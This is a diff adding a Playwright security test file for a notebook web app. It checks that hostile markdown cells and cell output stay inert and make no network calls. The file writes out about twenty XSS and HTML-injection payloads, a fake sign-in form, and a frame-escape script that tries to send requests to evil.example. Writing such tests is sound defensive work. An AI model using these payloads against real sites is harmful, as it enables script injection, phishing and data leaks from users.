@@ -1,0 +1,70 @@
+/** S1, S2: text and output made by an enemy in the notebook: nothing of it runs in our page, dresses up as it or calls out. */
+import type { BrowserContext } from '@playwright/test'
+import { cellAt, makeNotebook, openNotebook } from './notebook-page.ts'
+import { expect, test } from './people.ts'
+
+const STEAL = 'window.stolen=1;top.stolen=1'
+const PAYLOADS = [
+  `<script>${STEAL}</script>`, `<img src=x onerror="${STEAL}">`, `<svg onload="${STEAL}"><animate onbegin="${STEAL}" attributeName=x dur=1s>`,
+  `<a href="javascript:${STEAL}">press</a>`, `[press](javascript:${STEAL})`, `<iframe srcdoc="<script>${STEAL}</script>"></iframe>`,
+  `<object data="data:text/html,<script>${STEAL}</script>"></object>`, `<form action="https://evil.example"><input name=password><button>Sign in</button></form>`,
+  `<div style="position:fixed;inset:0;background:url(https://evil.example/pixel)">over everything</div>`, `<div class="fixed inset-0 z-50">dressed up</div>`,
+  `<img id="cookie" name="getElementById"><a id="defaultView">`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${STEAL}&gt;">`,
+  `<details open ontoggle="${STEAL}"><summary>s</summary></details>`, `<meta http-equiv="refresh" content="0;url=https://evil.example">`, `<base href="https://evil.example/">`,
+  `![x](https://evil.example/pixel.png)`, `$\\href{javascript:${STEAL}}{x}$`, `<a title="kept-0-0;" href="https://example.org">x</a>`, `<video src=x onerror="${STEAL}"></video>`,
+  `<noscript><p title="</noscript><img src=x onerror=${STEAL}>">`, `<button popovertarget="x" onclick="${STEAL}">b</button>`, `# <img src=x onerror="${STEAL}"> title`,
+]
+
+/** What got past the page's policy and was on its way to the network. */
+async function watch(context: BrowserContext): Promise<string[]> {
+  const calls: string[] = []
+  await context.route(/evil\.example/, (route) => {
+    calls.push(route.request().url())
+    return route.abort()
+  })
+  context.on('page', (page) => page.on('dialog', (dialog) => void dialog.dismiss()))
+  return calls
+}
+
+test('S2: hostile text cells stay text', async ({ browser, product, ownerState, owner }) => {
+  const notebook = await makeNotebook(owner, `T <img src=x onerror="${STEAL}">`, PAYLOADS.map((source) => ({ kind: 'markdown', source })))
+  // A page of its own: the policy reports what it stops on the console, and that is what should happen.
+  const context = await browser.newContext({ storageState: ownerState, baseURL: product.url })
+  const calls = await watch(context)
+  const page = await context.newPage()
+  await openNotebook(page, notebook)
+  await page.waitForTimeout(1000)
+  const found = await page.evaluate(() => ({
+    stolen: 'stolen' in window,
+    bad: [...document.querySelectorAll('.prose *')].flatMap((element) => {
+      if (element.closest('.katex, pre') !== null) return []
+      const names = element.getAttributeNames().filter((name) => /^on|^(style|class|id|name|srcset|action|popovertarget)$/.test(name))
+      const isTag = /^(script|style|iframe|object|embed|form|input|button|svg|math|base|meta|video)$/i.test(element.tagName)
+      return names.length > 0 || isTag ? [element.outerHTML] : []
+    }),
+    links: [...document.querySelectorAll<HTMLAnchorElement>('.prose a[href]')].filter((link) => !/^https?:/.test(link.href)).map((link) => link.outerHTML),
+  }))
+  expect(found).toEqual({ stolen: false, bad: [], links: [] })
+  expect(calls).toEqual([])
+  expect(page.url()).toContain(notebook.path)
+  await context.close()
+})
+
+test('S1: hostile output stays in its frame and calls nobody', async ({ browser, product, ownerState, owner }) => {
+  const pages = PAYLOADS.map((payload) => `<div>${payload}</div>`).join('')
+  const escape = `<script>for (const reach of [() => parent.document.title = 'stolen', () => top.location = 'https://evil.example', () => localStorage.x = 1, () => document.cookie = 'a=1', () => fetch('https://evil.example'), () => new WebSocket('wss://evil.example'), () => { new Image().src = 'https://evil.example/i' }, () => { location = 'https://evil.example/away' }]) { try { reach() } catch {} }; parent.postMessage({ kind: 'height', height: 1e9 }, '*'); document.body.append('script ran')</script>`
+  const notebook = await makeNotebook(owner, 'Hostile output', [{ kind: 'python', source: `from IPython.display import HTML, SVG, display\ndisplay(HTML(${JSON.stringify(pages)}))\ndisplay(SVG('<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="top.stolen=1"></svg>'))\ndisplay(HTML(${JSON.stringify(escape)}))` }])
+  const context = await browser.newContext({ storageState: ownerState, baseURL: product.url })
+  const calls = await watch(context)
+  const page = await context.newPage()
+  await openNotebook(page, notebook)
+  await cellAt(page, 1).getByRole('button', { name: 'Run cell' }).click()
+  await expect(cellAt(page, 1).locator('iframe')).toHaveCount(3, { timeout: 30_000 })
+  await page.waitForTimeout(2500)
+  expect(await page.evaluate(() => 'stolen' in window)).toBe(false)
+  expect(await page.title()).not.toContain('stolen')
+  expect(page.url()).toContain(notebook.path)
+  expect(calls).toEqual([])
+  for (const frame of await cellAt(page, 1).locator('iframe').all()) expect((await frame.boundingBox())?.height ?? 0).toBeLessThanOrEqual(2000)
+  await context.close()
+})
